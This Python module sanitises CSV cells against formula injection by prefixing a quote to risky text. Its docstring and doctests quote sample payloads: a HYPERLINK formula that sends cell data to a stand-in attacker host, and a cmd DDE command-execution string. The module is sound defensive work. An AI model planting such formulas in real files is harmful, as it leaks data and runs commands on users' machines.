"""CSV cells that a spreadsheet cannot run: the OWASP rule against CSV injection.

A spreadsheet opening a CSV treats a cell that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return as a formula (``=HYPERLINK("http://evil.example/?"&A1)``,
``+cmd|' /C calc'!A0``). Every CSV the product writes — the API export, portal
downloads, dashboard CSV — passes its cells through :func:`csv_safe_cell`, which puts a
``'`` in front of such text so it shows as the text it is. Numbers stay numbers.

>>> csv_safe_cell('=HYPERLINK("http://evil.example/?"&A1,"x")')
'\\'=HYPERLINK("http://evil.example/?"&A1,"x")'
>>> csv_safe_cell("-2+3"), csv_safe_cell("@SUM(A1)"), csv_safe_cell("\\tx")
("'-2+3", "'@SUM(A1)", "'\\tx")
>>> csv_safe_cell(-2), csv_safe_cell(3.5), csv_safe_cell("good food"), csv_safe_cell(None)
(-2, 3.5, 'good food', None)

(defusedcsv implements a looser variant of this rule that lets a leading tab or
carriage return through, so the rule is kept here in a few lines instead.)
"""

from __future__ import annotations

from typing import Any

# The OWASP list, plus newline and the full-width forms a Japanese IME types (Excel
# and LibreOffice read ＝1+1 as a formula once it is converted on edit).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_safe_cell(value: Any) -> Any:
    """``value`` made safe for a CSV cell: text that a spreadsheet would read as a
    formula gets a leading ``'``; anything that is not text is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_safe_row(values: list[Any]) -> list[Any]:
    """Every cell of a row through :func:`csv_safe_cell`.

    >>> csv_safe_row([1, "=1+1", "ok"])
    [1, "'=1+1", 'ok']
    """
    return [csv_safe_cell(value) for value in values]


def csv_safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells (and column names) are CSV-safe,
    for ``frame.to_csv``; numeric columns are untouched.

    >>> import pandas as pd
    >>> csv_safe_frame(pd.DataFrame({"store": ["=evil", "a"], "n": [-1, 2]})).to_csv(
    ...     index=False).splitlines()
    ['store,n', "'=evil,-1", 'a,2']
    """
    from pandas.api.types import is_bool_dtype, is_datetime64_any_dtype, is_numeric_dtype

    safe = frame.copy()
    for column in safe.columns:
        dtype = safe[column].dtype
        # Numbers, booleans and times cannot hold text; every other column may.
        if not (is_numeric_dtype(dtype) or is_bool_dtype(dtype)
                or is_datetime64_any_dtype(dtype)):
            safe[column] = safe[column].map(csv_safe_cell)
    safe.columns = [csv_safe_cell(column) for column in safe.columns]
    return safe
